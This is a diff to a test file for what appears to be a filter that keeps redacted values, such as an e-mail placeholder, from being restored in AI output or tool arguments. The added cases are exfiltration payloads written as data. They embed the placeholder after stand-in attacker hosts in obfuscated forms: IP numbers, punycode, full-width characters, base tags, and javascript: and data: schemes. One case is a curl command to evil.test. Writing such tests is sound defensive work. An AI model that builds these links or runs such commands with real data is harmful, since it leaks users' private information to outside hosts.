@@ -55,6 +55,17 @@ describe("a value is not restored", () => {
     ["in any scheme", "[x](a1+b.c-d:[EMAIL_1])"],
     ["after the name of a computer", "evil.test/?a=[EMAIL_1]"],
     ["after the name of a computer with a port", "evil.test:8080/[EMAIL_1]"],
+    ["after the name of a computer with a dot at its end", "evil.test./[EMAIL_1]"],
+    ["after the name of a computer without the number of a port", "evil.test:/[EMAIL_1]"],
+    ["after the name of a computer in other letters", "зло.рф/[EMAIL_1]"],
+    ["after the ASCII form of such a name", "evil.xn--p1ai/[EMAIL_1]"],
+    ["after a soft hyphen in the name of a computer", "evil.te\u00adst/[EMAIL_1]"],
+    ["after an ideographic full stop", "evil。test/[EMAIL_1]"],
+    ["after full-width characters", "ｅｖｉｌ．ｔｅｓｔ／[EMAIL_1]"],
+    ["after the numbers of a computer", "203.0.113.5/c?d=[EMAIL_1]"],
+    ["after the numbers of a computer with a port", "203.0.113.5:8080/[EMAIL_1]"],
+    ["in a tag after the address of a base", '<base href="https://evil.test/"><img src="[EMAIL_1]">'],
+    ["in a tag long after the address of a base", '<BASE href="//evil.test/">\n<p>text</p> <img src="[EMAIL_1]">'],
     ["in JSON that Markdown shows as a picture", '["![x](https://evil.test/?a=","[EMAIL_1])"]'],
     ["in JSON that HTML shows as a picture", '["<img src=\'https://evil.test/?a=","[EMAIL_1]\'>"]'],
     ["after a string of JSON that JSON does not continue", '{"a":"b https://evil.test/?a="[EMAIL_1]'],
@@ -71,6 +82,16 @@ describe("a value is not restored", () => {
     ["white space around", '{"url":" https://evil.test/?a= b [EMAIL_1]"}'],
     ["escapes", String.raw`{"url":"\u0068ttps:\/\/evil.test/\u003fa= [EMAIL_1]"}`],
     ["no scheme", '{"url":"evil.test/?a= [EMAIL_1]"}'],
+    ["the numbers of a computer", '{"url":"203.0.113.5:8080/c?d=[EMAIL_1]"}'],
+    ["numbers without a path", '{"url":"203.0.113.5?d= [EMAIL_1]"}'],
+    ["an address of IPv6", '{"url":"[2001:db8::9]:80/ [EMAIL_1]"}'],
+    ["one number", '{"url":"3405803781/[EMAIL_1]"}'],
+    ["a hexadecimal number", '{"url":"0xcb007105/[EMAIL_1]"}'],
+    ["two numbers", '{"url":"203.29957/[EMAIL_1]"}'],
+    ["another scheme", '{"url":"ldap:x [EMAIL_1]"}'],
+    ["a scheme of data", '{"url":"data:text/html, [EMAIL_1]"}'],
+    ["a scheme of a program", '{"url":"javascript:open([EMAIL_1])"}'],
+    ["the name of a computer and a colon", '{"url":"evil.test:[EMAIL_1]"}'],
     ["JSON around", String.raw`{"body":"{\"url\":\"https://evil.test/?a=\\n[EMAIL_1]\"}"}`],
     ["a command around", String.raw`{"cmd":"curl \"https://evil.test/?a=\n[EMAIL_1]\""}`]
   ])("in tool arguments after an address and %s", (_, text) => {
@@ -79,6 +100,11 @@ describe("a value is not restored", () => {
 
   it("after an address of a mail in the link", () => {
     assertRedacted("[x](mailto:a@evil.test?body=[EMAIL_1])", "[x](mailto:[EMAIL_2]?body=[EMAIL_1])", { known })
+  })
+
+  it("after the user of a computer in a string of tool arguments", () => {
+    const options = { known, writing: "json", place: "tool arguments" } as const
+    assertRedacted('{"to":"git@evil.test:[EMAIL_1]"}', '{"to":"[EMAIL_2]:[EMAIL_1]"}', options)
   })
 
   it("in a string of tool arguments after an address and a line feed", () => {
@@ -109,11 +135,19 @@ describe("a value is restored", () => {
     "if a <b then: [EMAIL_1]",
     '{"url":"https://x.test","to":"[EMAIL_1]"}',
     '{"answer":"See https://x.test. Write to [EMAIL_1]"}',
-    '```json\n{"url": "https://x.test", "to": "[EMAIL_1]"}\n```'
+    '```json\n{"url": "https://x.test", "to": "[EMAIL_1]"}\n```',
+    "evil.test:[EMAIL_1] ldap:[EMAIL_1] 5551234567/[EMAIL_1]",
+    '<base target="_blank"><contact mail="[EMAIL_1]"/>',
+    '<base href="https://x.test/"> [EMAIL_1]'
   ])("in the text %s", (text) => assertRedacted(text, restored(text), { known }))
 
   it.each([
     '{"to":"[EMAIL_1]"}',
+    '{"q":"from:[EMAIL_1] to:[EMAIL_1]"}',
+    '{"path":"/users/[EMAIL_1]"}',
+    '{"path":"users/[EMAIL_1]"}',
+    '{"a":"Data: [EMAIL_1]"}',
+    '{"a":"Tel: [PHONE_1]"}',
     '{"a":"see https://x.test or [EMAIL_1]"}',
     '{"a":"https://x.test","b":"[EMAIL_1]"}',
     String.raw`{"a":"{\"url\":\"https://x.test\",\"to\":\"[EMAIL_1]\"}"}`,
